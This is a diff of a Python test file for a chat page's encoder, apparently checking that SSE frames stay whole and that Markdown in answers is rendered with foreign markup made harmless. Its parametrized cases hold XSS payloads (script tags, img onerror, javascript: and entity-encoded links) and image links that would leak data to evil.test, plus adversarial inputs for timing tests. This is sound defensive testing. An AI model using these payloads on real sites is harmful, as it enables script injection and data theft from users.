@@ -1,14 +1,19 @@
 """What readers get of an event: SSE frames, and the chat page's Markdown with everything foreign made harmless."""
 
+import gc
 import json
 import re
+import time
+from collections.abc import Callable
+from html.parser import HTMLParser
 from typing import Any
 
+import httpx
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from ui.encode import Shown, answer, quoted, source, sse
+from ui.encode import NESTING, RENDERED, Shown, answer, quoted, said, source, sse
 
 ROUTED = {
     "type": "routed",
@@ -55,6 +60,14 @@ def test_an_sse_frame_is_one_event_whatever_the_text(text: str, kind: str) -> No
     assert name == f"event: {kind}" and json.loads(data.removeprefix("data: "))["text"] == text
 
 
+@given(st.text())
+def test_a_reader_that_splits_lines_as_unicode_does_gets_whole_frames(text: str) -> None:
+    text = f"a\u2028b\u0085c\x0bd{text}"
+    lines = list(httpx.Response(200, text=sse({"type": "text_delta", "text": text})).iter_lines())
+    assert lines[0] == "event: text_delta" and json.loads(lines[1].removeprefix("data: "))["text"] == text
+    assert not any(lines[2:])
+
+
 def test_an_answer_shows_route_text_note_and_the_cited_source_first() -> None:
     shown = Shown()
     checked = {"type": "checked", "evidence": "supported", "cited": [2], "invented": []}
@@ -70,14 +83,14 @@ def test_an_answer_shows_route_text_note_and_the_cited_source_first() -> None:
     page = shown.markdown()
     assert page.index('class="route') < page.index("The cap is £165") < page.index("A note.")
     assert page.index("src-abcdef12-2") < page.index("1 more found") < page.index("src-abcdef12-1")
-    assert r"[\[2\]](#cite-abcdef12-2)" in page
+    assert '<a href="#cite-abcdef12-2">[2]</a>' in page
     assert "asks for &lt;b&gt;something" in page and "<b>something" not in page
 
 
 def test_a_failure_and_a_stop_are_said() -> None:
     shown = Shown()
     shown.take(ROUTED)
-    shown.take({"type": "failed", "code": "x", "message": "The model is <down>.", "partial": ""})
+    shown.take({"type": "failed", "code": "x", "message": "The model\n\nis <down>.", "partial": ""})
     assert '<p class="notice failed">The model is &lt;down&gt;.</p>' in shown.markdown()
     assert "Stopped." in Shown(text="half", routed=ROUTED, stopped=True).markdown()
 
@@ -90,32 +103,203 @@ def test_weak_evidence_is_said(evidence: str) -> None:
     assert 'class="notice evidence"' in shown.markdown()
 
 
+def test_the_route_card_names_collections_by_their_titles() -> None:
+    found = retrieved(passage(1)) | {"searched": ["demo", "hr"]}
+    page = Shown(routed=ROUTED, retrieved=found, collections={"demo": "Demo & more"}).markdown()
+    assert "<dt>Searched in</dt><dd>Demo &amp; more, hr</dd>" in page
+
+
 @pytest.mark.parametrize(
     ("text", "gone", "kept"),
     [
         ("<img src=http://evil.test/x>", "<img", "&lt;img"),
         ("<script>alert(1)</script>", "<script", "alert"),
-        ("![leak](https://evil.test/?q=secret)", "evil.test", "leak"),
-        ("![leak][1]\n\n[1]: https://evil.test", "![", "leak"),
+        ("a \\`<img src=x>` b", "<img", "&lt;img src=x&gt;"),
+        ("a ``` b\n<img src=x>\n``` c", "<img", "&lt;img src=x&gt;"),
+        ("```\n<img src=x>", "<img", "&lt;img src=x&gt;"),
+        ("![leak](https://evil.test/?q=secret)", "evil.test", "<p>leak</p>"),
+        ("![![a](b)](http://evil.test)", "evil.test", "<p>a</p>"),
+        ("![a \\* *b* `c`](http://evil.test)", "evil.test", "<p>a * b c</p>"),
+        ("![leak][1]\n\n[1]: https://evil.test", "<img", "leak"),
+        ("[a]: https://evil.test\n\n[a]", "<a", "[a]: https://evil.test"),
         ("[click](javascript:alert(1))", "javascript:", "[click]"),
         ("[click](  JaVaScript:alert(1) )", "JaVaScript", "[click]"),
+        ("[click](&#106;avascript:alert(1))", "script:", "[click]"),
         ("[click](data:text/html,x)", "data:", "[click]"),
+        ("[click](//evil.test)", "evil.test", "[click]"),
+        ("[click](/v1/conversations)", "<a", "[click]"),
+        ("[click](https://evil.test/#cite-t-1)", "evil.test", "[click]"),
+        ("<javascript:alert(1)>", "<a", "<p>javascript:alert(1)</p>"),
         ("<a href='javascript:x'>y</a>", "<a", "y"),
+        ('```x"><img src=x>\na', "<img", '<code class="language-x">'),
+        ("```x y&#32;src\na", "src", '<code class="language-x">'),
+        ("a %%%LATEX_BLOCK_0%%% b", "LATEX_BLOCK", "%%%LATEX&#95;BLOCK_0%%%"),
+        ("half \ud83d", "\ud83d", "half \ufffd"),
     ],
 )
 def test_foreign_markup_in_an_answer_is_harmless(text: str, gone: str, kept: str) -> None:
-    page = answer(text, "t", set())
+    page = answer(text, "t", {1})
     assert gone not in page and kept in page
 
 
+class Tags(HTMLParser):
+    """Reads a page as a browser does, and keeps what it finds."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__()
+        self.tags: set[str] = set()
+        self.attributes: set[str] = set()
+        self.links: list[str] = []
+        self.open: list[str] = []
+        self.feed(html)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.add(tag)
+        self.attributes.update(name for name, _ in attrs)
+        self.links += [value or "" for name, value in attrs if name == "href"]
+        if tag not in ("br", "hr"):
+            self.open.append(tag)
+
+    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.handle_starttag(tag, attrs)
+
+    def handle_endtag(self, tag: str) -> None:
+        assert self.open.pop() == tag
+
+
+ALLOWED = set(
+    "div p a ul ol li blockquote pre code em strong s h1 h2 h3 h4 h5 h6 hr br table thead tbody tr th td".split()
+)
+PIECES = r"""! [ ] ( ) < > ` * _ ~ # | - + \ & " ' % $ : ; = a b ``` ~~~ [1] [2] ]( ![ |-|-| <img onerror=y> <!-- ]]>
+&lt; javascript: http://x.y %%%LATEX_BLOCK_0%%%""".split()
+SPACES = [" ", "  ", "    ", "\n", "\n\n", "\r", "\t", "\x00", "\x0b", "\x85", "\u2028", "> ", "- ", "1. "]
+MARKUP = st.lists(st.sampled_from(PIECES + SPACES), max_size=60).map("".join)
+
+
+@given(st.one_of(MARKUP, st.text(max_size=200)))
+def test_an_answer_is_one_balanced_block_of_known_elements(text: str) -> None:
+    html = answer(text, "t", {1})
+    assert "\n" not in html and "\r" not in html and "\t" not in html
+    page = Tags(html)
+    assert page.open == [] and page.tags <= ALLOWED
+    assert page.attributes <= {"class", "dir", "href", "rel", "target", "style", "start"}
+    assert all(link == "#cite-t-1" or re.match("(?i)https?://|mailto:", link) for link in page.links)
+
+
+@given(MARKUP)
+def test_whatever_an_answer_leaves_open_notices_and_sources_stay_whole(text: str) -> None:
+    shown = Shown(text=f"x{text}", routed=ROUTED, retrieved=retrieved(passage(1, text=text)), stopped=True)
+    blocks = shown.markdown().split("\n\n")
+    assert len(blocks) == 4 and all("\n" not in block for block in blocks)
+    starts = ("<details", '<div class="answer"', '<p class="notice', '<div class="sources"')
+    assert all(block.startswith(start) for block, start in zip(blocks, starts, strict=True))
+
+
 def test_code_is_left_as_it_is() -> None:
-    text = "Use `a[1] < b` or\n\n```html\n<img src=x> [1]\n```\nthen [1]."
+    text = "Use `a[1] < b` or\n\n```html\n<img src=x> [1]\n\n\ty\n```\nthen [1]."
     page = answer(text, "t", {1})
-    assert "`a[1] < b`" in page and "<img src=x> [1]" in page and page.endswith(r"[\[1\]](#cite-t-1).")
+    assert "<code>a[1] &lt; b</code>" in page and page.endswith('then <a href="#cite-t-1">[1]</a>.</p></div>')
+    assert '<pre><code class="language-html">&lt;img src=x&gt; [1]&#10;&#10;&#9;y&#10;</code></pre>' in page
 
 
-def test_only_numbers_of_passages_become_links() -> None:
-    assert answer("a [1] b [7] c [1](x)", "t", {1}) == r"a [\[1\]](#cite-t-1) b \[7\] c [1](x)"
+@pytest.mark.parametrize(
+    ("text", "html"),
+    [
+        ("a [1] b [7]", 'a <a href="#cite-t-1">[1]</a> b [7]'),
+        ("[1][2]", '<a href="#cite-t-1">[1]</a><a href="#cite-t-2">[2]</a>'),
+        ("**[1]**.", '<strong><a href="#cite-t-1">[1]</a></strong>.'),
+        ("[1](x)", "[1]"),
+        ("\\[1\\]", "[1]"),
+        ("![see [1]](x)", "see [1]"),
+        ("a [1", "a [1"),
+        ("a [", "a ["),
+        ("[1]: b", '<a href="#cite-t-1">[1]</a>: b'),
+        ("نعم [١]", 'نعم <a href="#cite-t-1">[1]</a>'),
+    ],
+)
+def test_only_numbers_of_passages_become_links(text: str, html: str) -> None:
+    assert answer(text, "t", {1, 2}) == f'<div class="answer" dir="auto"><p>{html}</p></div>'
+
+
+def test_a_link_opens_elsewhere_and_takes_no_citation_in() -> None:
+    page = answer('[see [1] here](https://example.test/?a=1&b=2 "t")', "t", {1})
+    attributes = 'href="https://example.test/?a=1&amp;b=2" rel="noopener noreferrer nofollow" target="_blank"'
+    assert f"<p><a {attributes}>see [1] here</a></p>" in page
+
+
+def test_line_breaks_tables_and_strikethrough_are_kept() -> None:
+    assert "Best,<br /> Anna" in answer("Best,\nAnna", "t", set())
+    page = answer("|a|b|\n|-|-:|\n|~~1~~|2 [1]|", "t", {1})
+    assert '<td><s>1</s></td> <td style="text-align:right">2 <a href="#cite-t-1">[1]</a></td>' in page
+
+
+@pytest.mark.parametrize("text", ["", " \n "])
+def test_an_answer_without_words_is_nothing(text: str) -> None:
+    assert answer(text, "t", set()) == ""
+
+
+def test_what_is_nested_too_deep_or_too_long_to_render_is_shown_as_it_is() -> None:
+    for deep in ("> " * NESTING + "deepest", "- " * NESTING + "deepest"):
+        assert "deepest</pre>" in answer(deep, "t", set()) and "deepest</pre>" in quoted(deep)
+    page = answer("*a*\n" + "word\n" * RENDERED + "<b>*last*", "t", set())
+    assert page.startswith('<div class="answer" dir="auto"><p><em>a</em>')
+    assert page.endswith("word&#10;&lt;b&gt;*last*</pre></div>") and page.count("word") == RENDERED
+
+
+ADVERSARIAL: dict[str, Callable[[int], str]] = {
+    "![": lambda size: "![" * (size // 2),
+    "[": lambda size: "[" * size,
+    "[]": lambda size: "[" * (size // 2) + "]" * (size // 2),
+    "[a](": lambda size: "[a](<b" * (size // 6),
+    "![nested](": lambda size: ("![" * 18 + "](x)" * 18) * (size // 108),
+    "`": lambda size: "`" * size,
+    "` ``": lambda size: "".join("`" * length + " " for length in range(int((2 * size) ** 0.5))),
+    "*": lambda size: "*" * size,
+    "*a_": lambda size: "*a_b" * (size // 4),
+    "<": lambda size: "<" * size,
+    "> ": lambda size: "> " * (size // 2),
+    "> a": lambda size: (">" * (NESTING - 2) + "a\n") * (size // NESTING),
+    ">\na": lambda size: ">" * (NESTING - 2) + "a\n" * (size // 2),
+    "- ": lambda size: "".join("  " * depth + "- a\n" for depth in range(int(size**0.5))),
+    "- - ": lambda size: "- a\n\n" * (size // 5),
+    "|": lambda size: "|a" * int(size**0.5) + "\n" + "|-" * int(size**0.5) + "\n" + "|\n" * int(size**0.5),
+    "[1]": lambda size: "[1]" * (size // 3),
+    "[a]: b": lambda size: f"[a]: {'b' * (size // 2)}\n\n" + "[a]" * (size // 6),
+}
+
+
+def seconds(text: str) -> float:
+    """Of this process alone and without the collector, whose full runs depend on what other tests left."""
+    gc.collect()
+    gc.disable()
+    try:
+        began = time.process_time()
+        answer(text, "t", {1})
+        return time.process_time() - began
+    finally:
+        gc.enable()
+
+
+@pytest.mark.parametrize("size", [RENDERED // 2, 100_000])
+@pytest.mark.parametrize("kind", ADVERSARIAL)
+def test_twice_the_text_takes_about_twice_the_time(kind: str, size: int) -> None:
+    answer("warm", "t", set())
+    once, twice = ADVERSARIAL[kind](size), ADVERSARIAL[kind](2 * size)
+    tries = ((seconds(twice), seconds(once)) for _ in range(4))
+    assert any(long < 3.5 * short + 0.02 for long, short in tries)
+
+
+@given(st.text())
+def test_what_a_person_said_is_text(text: str) -> None:
+    html = said(text)
+    assert not re.search(r"[\n\r\t]", html) and set(re.findall(r"<(\w+)", html)) <= {"div", "br"}
+
+
+def test_what_a_person_said_keeps_its_lines() -> None:
+    assert said(" *a*\r\n\r\n<b> & \rc\td ") == (
+        '<div class="said" dir="auto">*a*<br><br>&lt;b&gt; &amp; <br>c&#9;d</div>'
+    )
 
 
 @given(st.text(max_size=300))
